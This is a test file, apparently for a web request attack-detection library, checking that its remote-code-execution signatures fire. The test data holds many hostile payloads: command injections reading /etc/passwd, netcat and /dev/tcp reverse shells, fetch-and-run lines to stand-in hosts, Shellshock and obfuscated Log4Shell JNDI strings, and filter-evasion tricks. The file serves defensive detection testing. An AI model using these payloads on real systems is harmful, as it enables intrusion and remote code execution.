import { test, type Test } from 'tap'
import { createDetection } from '../lib/detect/index'
import { rce } from '../lib/detect/signatures/rce'
import { shellText } from '../lib/detect/signatures/rce-shell'
import { charClasses } from '../lib/detect/chars'

const at = (paranoia: 1 | 2 | 3) => createDetection({ paranoia, disable: [], bodyLimit: 65536, userAgentCacheSize: 16 }, [rce])
const pl1 = at(1)
const pl2 = at(2)
const pl3 = at(3)
const rules = (url: string, headers: Record<string, string> = {}, d = pl1) => d.request({ url, headers }).map((f) => f.rule).sort()
const q = (value: string) => '/run?cmd=' + encodeURIComponent(value)
const fires = (rule: string, values: string[], d = pl1) => async (t: Test) => {
  for (const v of values) t.ok(rules(q(v), {}, d).includes(rule), v)
}

test('unix commands after separators, with quoting evasions', fires('rce-unix-command', [
  ';cat /etc/passwd', '|id', '; whoami', '&& wget http://x/a', '`uname -a`', '$(curl evil.example)', 'x||nc -e /bin/sh 1.2.3.4 4',
  ";c''at /etc/x", ';c\\at /etc/x', ';"rmt" --version', ';cat$IFS/etc/x', ';cat${IFS}/etc/x', 'a;\nls -la', ';ps', ';env',
  'time ifconfig', 'nohup sh -c id', "ti''me sh -c whoami", ';iwr http://e/x.ps1', '& certutil -urlcache -f http://e/p.exe',
  'a"|bcdboot %SYSTEMROOT%', 'd=/dev&&(sh)0>$d/tcp/1.2.3.4/7', '|$u wget test', ';cat /et?/pas?wd', '\\ls'
]))

test('values that begin with a command and its arguments', fires('rce-unix-command-leading', [
  'ls -l /etc/passwd', 'cd /;cd etc;column passwd', 'cscli alerts list', 'ansible all -m ping', 'ansible-config dump',
  'python3.10 cmd', 'zstdcat /var/log/x.zst', 'Invoke-WebRequest http://e/x.ps1', 'powershell C:\\windows\\notepad.exe',
  'whoami;0', 'visudo', 'chef-shell'
]))

test('ordinary text is not a command', async (t) => {
  for (const v of ['python', 'curl examples', 'time for coffee', 'cut & paste', 'find & replace', 'red;$5 each', 'axel smith',
    'base64', 'eval', 'lastlog', '1;1;1;control;0', 'tags=red;green;blue', 'b&w', 'Hello\nwho is there?', 'apt is gated; call',
    'if you want', 'for the record', '(find out more)', 'C:\\Program Files\\App', 'data:text/plain;base64,SGk=', 'R&D; top 10']) {
    t.same(rules(q(v)), [], v)
  }
  t.same(rules('/?expr=(1%2B2)'), [], 'a query name that is a command word')
  t.same(rules('/', { 'user-agent': 'Mozilla/5.0 (Windows NT 6.2; ARM; Trident/7.0; Touch; rv:11.0) like Gecko' }), [])
  t.same(rules('/', { 'user-agent': 'Mozilla/5.0 (Linux; U; Android 2.3.3; en-us ; LS670 Build/GRI40)' }), [])
})

test('weaker readings wait for paranoia 2 and 3', async (t) => {
  t.same(rules(q('hello; top something')), [])
  t.same(rules(q('hello; top something'), {}, pl2), ['rce-unix-command-loose'])
  t.same(rules(q('id'), {}, pl2), [])
  t.same(rules(q('id'), {}, pl3), ['rce-unix-command-alone'])
  t.same(rules('/', { 'user-agent': ';env' }), ['rce-unix-command'], 'a tight separator in the User-Agent')
})

test('substitutions, globs and expansions', async (t) => {
  await fires('rce-unix-substitution', ['$(cmd)', '${cmd}', '<(cat file)', '>(tee log)', '$[2+2]', '$((7))', '${x#{}}', "${`id`}"])(t)
  t.same(rules(q("$('#menu').hide()")), [], 'jQuery')
  t.same(rules(q('$(document).ready()')), [])
  await fires('rce-unix-glob-path', ['cat /etc/pa[s]swd', '/[?]tc/pa[?]swd', '/usr/bin/[u]name -a', '/bi[n]/bash', '/etc/[!q]asswd'])(t)
  await fires('rce-unix-wildcard-path', ['/???/c?t /e??/p??s??', 'cat /et*/*wd'], pl2)(t)
  t.same(rules(q('/???/c?t')), [], 'wildcards wait for paranoia 2')
  await fires('rce-unix-brace-expansion', ['{cat,/etc/passwd}', 'c{a,oun}t', '{l,-lh}s', '{,ifconfig}', '{id,}'])(t)
  t.same(rules(q('{1,2}')), [])
  t.same(rules(q('{,echo,#test}'), {}, pl2), ['rce-unix-brace-list'])
  await fires('rce-unix-tilde-expansion', ['~+', '~-', '~-1'])(t)
  await fires('rce-unix-history-expansion', ['!-1!-2'])(t)
  await fires('rce-unix-alias', ['alias a=c${KK}url', "alias 'letter'=curl", 'alias -p x=id', 'alias +m a=b', "alias ..='cd ..'"])(t)
  await fires('rce-unix-shell-path', ['/usr/bin/perl -e', '/bin/ab', '$SHELL -c x', '${SHELL} -c x', 'bin/ansible', 'exec 5<>/dev/tcp/8.8.8.8/80'])(t)
  t.same(rules(q('/usr/share/doc')), [])
})

test('Windows: shells, batch syntax, escapes', async (t) => {
  await fires('rce-windows-shell', ['cmd /c whoami', 'c^m^d /c dir', 'cmd.exe /k x', 'powershell -enc SQBFAFgA', 'PowerShell.exe -nop -w hidden', '%comspec% /c x'])(t)
  await fires('rce-windows-batch', ['for %variable in (set) do command', 'FOR /F "tokens=1-3" %%A IN ("a b") DO @echo x', '& FOR %_ IN (a,b) DO cmd',
    'for /r c:\\ %i in (*) do x', 'IF EXIST C:\\pagefile.sys CMD', 'if /i a==b foo', 'IF "%VAR%"=="" (SET x=1)', 'if %n1% gtr %n2% echo x',
    'IF NOT DEFINED BAR (', 'if (1) equ (1) echo hey'])(t)
  t.same(rules(q('if you have any questions')), [])
  t.same(rules(q('Look for the sign in (the) hall')), [])
})

test('Shellshock in any header, fork bombs, SQLite and mail injection', async (t) => {
  t.same(rules('/', { 'x-anything': '() { :; }; /bin/bash -c id' }), ['rce-shellshock'])
  t.same(rules('/?%28%29%20%7B'), ['rce-shellshock'], 'in a query name')
  t.same(rules(q('function () { return 1 }')), [], 'JavaScript')
  t.same(rules(q(':(){ :|:& };:'), {}, pl2).includes('rce-fork-bomb'), true)
  t.same(rules(q('1;.shell whoami'), {}, pl2).includes('rce-sqlite-dot-command'), true)
  for (const v of ['\r\nMAIL FROM:<a@b.com>', '\r\nRETR 123', '\r\na001 EXAMINE INBOX']) {
    t.ok(rules(q(v), {}, pl2).includes('rce-mail-command-injection'), v)
  }
  t.same(rules(q('Dear team,\r\nthanks for the help')), [])
})

test('Log4Shell lookups and their obfuscations, anywhere', async (t) => {
  for (const v of ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://e/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://e/a}',
    '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://e/a}', "${${date:'j'}ndi:dns://e/a}", '${:1337:-x$}{jndi:ldap://evil.com/webshell}',
    '${${upper:j}${lower:N}di:ldap://e/}']) {
    t.same(rules('/', { 'x-api-version': v }), ['rce-log4shell-jndi'], v)
    t.ok(rules(q(v)).includes('rce-log4shell-jndi'), v)
  }
  t.same(rules('/', { 'x-template': '${user.name}' }), [])
  const [finding] = pl1.request({ url: '/', headers: { 'user-agent': '${jndi:ldap://e/a}' } })
  t.same([finding.kind, finding.where, finding.score], ['rce', 'header:user-agent', 5])
})

test('rules can be disabled', async (t) => {
  const d = createDetection({ paranoia: 1, disable: ['rce-unix-command'], bodyLimit: 65536, userAgentCacheSize: 16 }, [rce])
  t.same(d.request({ url: q(';cat /etc/passwd'), headers: {} }).map((f) => f.rule), [])
})

test('long values: a command after many decoys is still found', async (t) => {
  const body = (text: string) => {
    const out: ReturnType<typeof pl1.request> = []
    pl1.body(text, 'text/plain', out)
    return out.map((f) => f.rule).sort()
  }
  // More than 64 command positions (the old bound) before the injected one.
  t.same(body('a=b&'.repeat(5000) + 'x=1;cat /etc/passwd'), ['rce-unix-command'])
  t.same(body('a=b&'.repeat(5000)), [])
  t.same(body('a\n'.repeat(20000)), [])
  t.same(body('a;'.repeat(20000) + 'b;/bin/x -c 1'), ['rce-unix-command'], 'a one-letter binary under bin/ after one-letter decoys')
  t.same(rules(q('|w')), ['rce-unix-command'], 'w is a command of one letter')
  t.same(rules(q('view=image.jpg&bcdboot/r file.txt')), ['rce-unix-command'], 'a command written like a directory')
  // A brace expansion that spells nothing does not hide a later one that spells a command.
  t.same(rules(q('{a,b} {cat,/etc/passwd}')), ['rce-unix-brace-expansion'])
  t.same(rules(q('{a,b} {c,d}')), [])
  t.same(rules('/', { 'x-data': '${'.repeat(20000) }), [], 'lookups that never close')
})

test('many command positions read as fast as a few, whatever follows them', async (t) => {
  const body = (text: string) => {
    const out: ReturnType<typeof pl1.request> = []
    pl1.body(text, 'text/plain', out)
    return out.map((f) => f.rule)
  }
  // Each `=whoami` once looked for the end of the value through all the whitespace after it.
  const start = performance.now()
  t.same(body('=whoami '.repeat(4000) + ' '.repeat(32000)), ['rce-unix-command-leading'])
  t.ok(performance.now() - start < 100, '4,000 commands, then 32,000 spaces')
  // Repeats of one command position are read once; what differs after them is still read.
  t.same(body('(eval'.repeat(10000) + ';cat /etc/passwd'), ['rce-unix-command'], 'a command after 10,000 repeats of one position')
  t.same(body('(eval'.repeat(10000)), [], 'repeats alone')
  t.same(body('=whoami ='.repeat(5000) + 'whoami  '), ['rce-unix-command-leading'], 'the last of the repeats, alone at the end, is read')
  t.same(body('=whoami ='.repeat(5000)), [], 'repeats of a strong name with nothing after it')
  // Where the text repeats itself, the search goes on from near the end of the repeats: what breaks the
  // pattern, inside or after it, is read.
  t.same(body('a;ls'.repeat(8000) + ' -la /'), ['rce-unix-command'], 'after 8,000 repeats of a position that names nothing')
  t.same(body('(eval'.repeat(5000) + ';cat /x' + '(eval'.repeat(5000)), ['rce-unix-command'], 'in the middle of the repeats')
  t.same(body('(eval'.repeat(5000) + ';cat /x'), ['rce-unix-command'], 'right at their end')
  const repeats = 'x;id'.repeat(16384)
  body(repeats)
  const before = performance.now()
  t.same(body(repeats), [])
  t.ok(performance.now() - before < 100, '16,384 repeats of a command position')
})

test('patterns behind a quick search still fire after long padding', async (t) => {
  // The Windows keywords, `$IFS` and path wildcards are first looked for by a native search; the patterns
  // themselves run only then, and find what they found before.
  const pad = 'x-y z/w '.repeat(4000)
  t.ok(rules(q(pad + '&for /f %i in (x) do calc'), {}, pl1).includes('rce-windows-batch'), 'for /f ... in (')
  t.ok(rules(q(pad + '&if exist c:\\boot.ini calc'), {}, pl1).includes('rce-windows-batch'), 'if exist')
  t.ok(rules(q(pad + '&if/i "a"=="a" calc'), {}, pl1).includes('rce-windows-batch'), 'if/i')
  t.ok(rules(q(pad + '|c^m^d /c whoami'), {}, pl1).includes('rce-windows-shell'), 'cmd /c with carets')
  t.ok(rules(q(pad + ' /???/c?t /e??/p??s??'), {}, pl2).includes('rce-unix-wildcard-path'), 'wildcards')
  t.ok(rules(q(pad + ';cat$IFS/etc/x'), {}, pl1).includes('rce-unix-command'), '$IFS')
  t.same(rules(q('for (i in x) if (a) before'.repeat(500)), {}, pl1), [], 'for and if without their cmd.exe grammar')
})

test('the shell reading of long values of quotes, `+` and expansions is read in one loop, as before', async (t) => {
  const read = (text: string): string => shellText(text, charClasses(text))
  t.equal(read("c''a\"t+/et$@c/pa$()ss$[x]wd"), 'cat /etc/pass$[x]wd')
  t.equal(read('a$$$b<()c``d${}e$9f'), 'a$bcdef', 'expansions are taken left to right, as a global replace takes them')
  t.equal(read("$'@'x"), '$@x', 'quotes are removed after the expansions are found')
  t.equal(read('$ifs$9x${ifs}y'), ' x y')
  t.equal(read('+'.repeat(65536)), ' '.repeat(65536))
  t.equal(read("a'".repeat(32768)), 'a'.repeat(32768))
  t.ok(rules(q('+'.repeat(30000) + ';cat /etc/passwd')).includes('rce-unix-command'), 'a command after 30,000 `+`')
  t.ok(rules(q("'".repeat(30000) + ';c"a"t /etc/passwd')).includes('rce-unix-command'), 'a command after 30,000 quotes')
  t.ok(rules(q('^'.repeat(30000) + '&c^m^d /c whoami')).includes('rce-windows-shell'), 'cmd.exe after 30,000 carets')
})
